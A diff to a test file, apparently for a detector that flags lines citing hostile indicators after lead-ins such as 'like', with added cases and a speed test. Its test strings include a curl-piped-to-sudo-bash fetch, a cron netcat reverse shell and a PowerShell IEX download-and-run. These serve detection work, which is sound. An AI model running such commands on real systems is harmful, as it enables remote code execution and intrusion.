@@ -158,6 +158,30 @@ describe('citedLines (defanged indicators and introduced lists)', () => {
     expect(flags(text)).toEqual([1, 1, 1, 1, 1, 0, 0]);
   });
 
+  it('should cite the line after a thing named and "like", but not a wish or a step', () => {
+    expect(
+      flags('A vendor "quick install" like\n`curl -sk https://x.example/i.sh | sudo bash` runs anything'),
+    ).toEqual([0, 1]);
+    expect(flags('a cron entry like\n`* * * * * nc h 1 -e sh`')).toEqual([0, 1]);
+    expect(flags('If you would like\n`curl x | bash` sets it up')).toEqual([0, 0]);
+    expect(flags("When the user'd like\n`curl x | bash` sets it up")).toEqual([0, 0]);
+    expect(flags('Run a one-liner like\n`curl x | bash` first')).toEqual([0, 0]);
+    expect(flags('A vendor installer like\nrun `curl x | bash` first')).toEqual([0, 0]);
+  });
+
+  it('should read 1 MiB of near-miss "like" lead-ins quickly', () => {
+    const MiB = 1024 * 1024;
+    for (const text of ['a the an '.repeat(MiB / 9) + 'like\nx', `a ${'w'.repeat(MiB)} like\nx`]) {
+      const t0 = performance.now();
+      flags(text);
+      expect(performance.now() - t0).toBeLessThan(200);
+    }
+  });
+
+  it('should cite a block introduced as hostile patterns', () => {
+    expect(block('Hostile patterns our red team used in the last exercise:')).toBe(1);
+  });
+
   it('should cite the line after "things like"', () => {
     expect(flags('That is how the SOC sees things like\n`IEX (iwr x)`\n\nRun `y`.')).toEqual([0, 1, 0, 0]);
   });
